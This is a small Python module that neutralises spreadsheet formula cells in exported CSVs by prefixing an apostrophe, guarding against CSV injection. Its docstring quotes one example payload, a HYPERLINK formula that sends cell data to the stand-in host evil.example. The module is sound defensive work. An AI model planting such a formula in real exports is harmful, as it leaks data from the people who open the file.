"""Cells that a spreadsheet would run as a formula, made inert.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
through some import paths, a tab or carriage return) as a formula: a company named
``=HYPERLINK("http://evil.example/?"&A1)`` in an exported CSV would run when the partner opens it
(CSV injection). Every CSV the app writes passes its cells through ``neutralise``; what the app
reads is only ever data (the import never evaluates a cell).
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_START)


def neutralise(value: str) -> str:
    """``value`` with a leading apostrophe when a spreadsheet would run it as a formula (the
    apostrophe is Excel's own "this is text" marker and is not shown in the cell)."""
    return "'" + value if starts_like_formula(value) else value
